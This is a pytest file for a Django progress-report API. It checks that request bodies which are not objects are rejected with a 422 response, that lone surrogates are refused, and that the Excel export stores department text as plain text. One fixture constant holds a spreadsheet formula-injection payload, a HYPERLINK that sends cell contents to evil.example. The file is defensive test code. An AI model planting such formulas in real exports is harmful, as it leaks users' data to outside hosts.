"""Progress reports at the API's edge: a body that is not a JSON object is refused (a PATCH of [null, null]
was accepted as an empty change), and text a department types never becomes a formula in the Excel export."""

import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from ipcity.reporting.models import ProgressReport

from .test_report_fixtures import Mini, build_mini

BASE = "/api/plan/reports/"
LINK = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'


@pytest.fixture
def mini(transactional_db, settings, tmp_path) -> Mini:
    settings.DEFAULT_POLICY = "mini"
    settings.MEDIA_ROOT = tmp_path
    return build_mini()


@pytest.fixture(autouse=True)
def _close_http(http: Any) -> Iterator[None]:
    yield
    http.close()  # before the live server stops: a kept-alive connection would outlive its database


def _draft(dept, **kw):
    body = {"task": "1.1.1", "period": "2023Q1", "percent_complete": 40, "narrative": "进展", **kw}
    resp = dept.post(BASE, json=body)
    assert resp.status_code == 201, resp.text
    return resp.json()["id"]


@pytest.mark.parametrize("body", ["[null, null]", "null", '"x"', "1", '[{"narrative": "x"}]'])
def test_a_body_that_is_not_an_object_is_a_422_and_changes_nothing(http, mini: Mini, body: str):
    dept = http.as_user(mini.justice_user)
    rid = _draft(dept)
    before = ProgressReport.objects.values().get(pk=rid)
    for method, url in (("patch", f"{BASE}{rid}"), ("post", BASE), ("post", f"{BASE}{rid}/accept")):
        resp = dept.request(method, url, data=body, headers={"Content-Type": "application/json"})
        assert resp.status_code == 422, (method, url, resp.text)
        assert resp.json()["detail"][0]["type"] == "object_expected"
    assert ProgressReport.objects.values().get(pk=rid) == before
    assert ProgressReport.objects.count() == 1
    # An object is still read as before.
    assert dept.patch(f"{BASE}{rid}", json={"percent_complete": 55}).json()["percent_complete"] == 55


def test_a_lone_surrogate_in_a_report_is_a_422_naming_the_field(http, mini: Mini):
    dept = http.as_user(mini.justice_user)
    rid = _draft(dept)
    text = '{"narrative": "ok", "figures": [{"name": "\\u57f9\\u8bad", "value": "1", "unit": "\\udc00"}]}'
    resp = dept.patch(f"{BASE}{rid}", data=text, headers={"Content-Type": "application/json"})
    assert resp.status_code == 422, resp.text
    assert resp.json()["detail"][0]["field"] == "figures.0.unit"
    assert ProgressReport.objects.get(pk=rid).narrative == "进展"


def test_a_departments_text_is_text_in_the_reports_export(http, mini: Mini):
    dept = http.as_user(mini.justice_user)
    rid = _draft(dept, narrative=LINK, percent_complete=60)
    assert dept.post(f"{BASE}{rid}/submit").status_code == 200
    client = Client()
    client.force_login(mini.office)
    response = client.get("/plan/reports/export.xlsx?period=2023Q1")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    (row,) = [r for r in sheet.iter_rows(min_row=2) if r[0].value == "1.1.1"]
    narrative = next(c for c in row if c.value == LINK)
    assert (narrative.data_type, narrative.quotePrefix) == ("s", True)
    percent = row[4]
    assert (percent.value, percent.data_type) == (60, "n")
